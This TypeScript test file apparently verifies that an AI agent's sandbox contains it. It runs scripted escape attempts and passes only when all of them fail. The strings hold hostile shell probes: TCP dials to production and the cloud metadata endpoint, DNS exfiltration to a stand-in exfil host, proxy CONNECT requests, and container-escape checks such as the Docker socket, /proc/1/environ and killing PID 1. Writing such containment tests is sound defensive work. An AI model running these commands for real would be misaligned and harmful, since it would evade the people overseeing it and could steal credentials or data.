import { type Attempt, attempt, nothingWon } from './attempt.ts'

/** `WON` when a TCP connection opens. */
const dial = (host: string, port: number) =>
  `timeout 3 bash -c '</dev/tcp/${host}/${port}' 2>/dev/null && echo 'WON ${host}:${port}'`

/** Asks the way out's own proxy; anything but a refusal is a way out. */
const throughProxy = (authority: string) =>
  `exec 3<>/dev/tcp/127.0.0.1/3128 || exit
   printf 'CONNECT ${authority} HTTP/1.1\\r\\nHost: ${authority}\\r\\n\\r\\n' >&3
   read -r -t 5 _ code _ <&3
   [ "$code" = 403 ] && echo refused || echo "WON ${authority} through the proxy ($code)"`

/** Looks for a way to production, to the cloud, to anywhere. */
export const attemptsToLeave: readonly Attempt[] = [
  {
    title: 'dials production by every address and name it could have',
    run: async (agent) => {
      const control = "timeout 3 bash -c '</dev/tcp/db/5432' && echo double"
      const tries = agent.targets.map(({ host, port }) => dial(host, port))
      const output = await attempt(agent, [control, ...tries].join('\n'))
      if (!output.includes('double')) return { held: false, said: 'not even its double answered' }
      const addresses = agent.targets.map(({ host, port }) => `${host}:${port}`)
      return nothingWon(output, `none of ${addresses.join(', ')} answers; its double does`)
    },
  },
  {
    title: 'asks the cloud for its credentials at 169.254.169.254',
    run: async (agent) =>
      nothingWon(
        await attempt(agent, dial('169.254.169.254', 80)),
        'there is no network to ask on',
      ),
  },
  {
    title: 'smuggles data out through DNS',
    run: async (agent) => {
      const lookup = 'getent hosts c2VjcmV0.exfil.example.com >/dev/null && echo "WON a lookup"'
      const datagram = `python3 -c "
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('8.8.8.8', 53))
print('WON a datagram')" 2>&1`
      const output = await attempt(agent, `${lookup}\n${datagram}`)
      if (!/unreachable/i.test(output)) return { held: false, said: `unexpected: ${output}` }
      return nothingWon(output, 'no name resolves, no datagram leaves: Network is unreachable')
    },
  },
  {
    title: 'asks the one door out to let it through',
    run: async (agent) => {
      const [production] = agent.targets
      const wanted = [
        `${production?.host}:${production?.port}`,
        '169.254.169.254:80',
        'example.com:443',
      ]
      const output = await attempt(agent, wanted.map((it) => `(${throughProxy(it)})`).join('\n'))
      const refused = output.match(/^refused$/gm)?.length ?? 0
      if (refused !== wanted.length) return { held: false, said: output.trim() }
      return { held: true, said: 'refused three times over' }
    },
  },
  {
    title: 'climbs out through the Docker socket, root, mounts and namespaces',
    run: async (agent) =>
      nothingWon(await attempt(agent, climbing), 'there is nothing to climb on'),
  },
]

const climbing = `
[ -S /var/run/docker.sock ] && echo 'WON the engine socket'
sudo -n true 2>/dev/null && echo 'WON sudo'
mount -t tmpfs none /mnt 2>/dev/null && echo 'WON a mount'
unshare -Ur true 2>/dev/null && echo 'WON a user namespace'
mknod /tmp/disk b 8 0 2>/dev/null && echo 'WON a device'
touch /usr/bin/planted 2>/dev/null && echo 'WON the root file system'
kill -9 1 2>/dev/null && echo 'WON PID 1'
cat /proc/1/environ >/dev/null 2>&1 && echo 'WON the environment of PID 1'
ls /proc/1/root/ >/dev/null 2>&1 && echo 'WON the files of PID 1'
ls /proc/1/fd/ >/dev/null 2>&1 && echo 'WON the open files of PID 1'
[ "$(id -u)" = 0 ] && echo 'WON root'
true`
